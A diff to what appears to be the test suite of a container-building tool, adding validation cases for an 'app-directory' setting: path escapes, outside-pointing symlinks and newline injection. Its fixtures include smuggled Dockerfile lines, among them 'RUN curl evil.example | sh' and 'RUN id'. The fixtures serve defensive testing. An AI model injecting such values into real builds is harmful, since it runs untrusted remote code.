@@ -255,6 +255,14 @@ def edit(id: str, change: Callable[[Project], object], *expect: str, **kw: objec
     return Case(id=id, edit=change, expect=expect, **kw)  # type: ignore[arg-type]
 
 
+def link_out(project: Project, name: str) -> Project:
+    """*name* in the project: a symbolic link to a folder beside the project."""
+    elsewhere = project.root.parent / "elsewhere"
+    elsewhere.mkdir()
+    project.path(name).symlink_to(elsewhere)
+    return project
+
+
 NEWLINE = toml("x\nRUN curl evil.example | sh")
 TOOL_KEYS = [
     # app
@@ -398,6 +406,31 @@ TOOL_KEYS = [
             "tool.containerize.build-dir",
         ),
         argv=("wheelhouse",),
+    ),
+    # app-directory
+    key("app-directory-missing", "app-directory", '"site"', "does not exist"),
+    key("app-directory-a-file", "app-directory", '"hello.py"', "hello.py is not a folder"),
+    key("app-directory-parent", "app-directory", '".."', "is not a folder inside the project"),
+    key("app-directory-absolute", "app-directory", '"/srv"', "is not a folder inside the project"),
+    key("app-directory-empty", "app-directory", '""', "app-directory is empty"),
+    key("app-directory-int", "app-directory", "1", "expected the folder"),
+    key("app-directory-newline", "app-directory", toml("site\nRUN id"), "newline"),
+    Case(
+        id="app-directory-symlink-out",
+        edit=lambda p: link_out(p, "site").set("app-directory", '"site"'),
+        expect=("tool.containerize.app-directory", "outside the project"),
+    ),
+    Case(
+        id="app-directory-in-build-dir",
+        edit=lambda p: p.write(".containerize/app/hello.py", HELLO).set(
+            "app-directory", '".containerize/app"'
+        ),
+        expect=("tool.containerize.app-directory", "inside the build folder"),
+    ),
+    Case(
+        id="app-directory-without-the-app",
+        edit=lambda p: p.write("site/other.py", HELLO).set("app-directory", '"site"'),
+        expect=("'hello:application' is not among the files", "/site)"),
     ),
     # healthcheck-path, env, builder, cache, source, python-version, libc
     key("healthcheck-no-slash", "healthcheck-path", '"health"', "must start with '/'"),
@@ -986,6 +1019,7 @@ ENVIRONMENT = [
     env("env-base-image-newline", "CONTAINERIZE_BASE_IMAGE", "python:3.11\nRUN id", "newline"),
     env("env-build-dir-dot", "CONTAINERIZE_BUILD_DIR", ".", "is the project folder"),
     env("env-build-dir-parent", "CONTAINERIZE_BUILD_DIR", "..", "a folder that holds the project"),
+    env("env-app-directory-missing", "CONTAINERIZE_APP_DIRECTORY", "site", "site does not exist"),
     env("env-builder-newline", "CONTAINERIZE_BUILDER", "a\nb", "newline"),
     env(
         "env-unknown-variable",
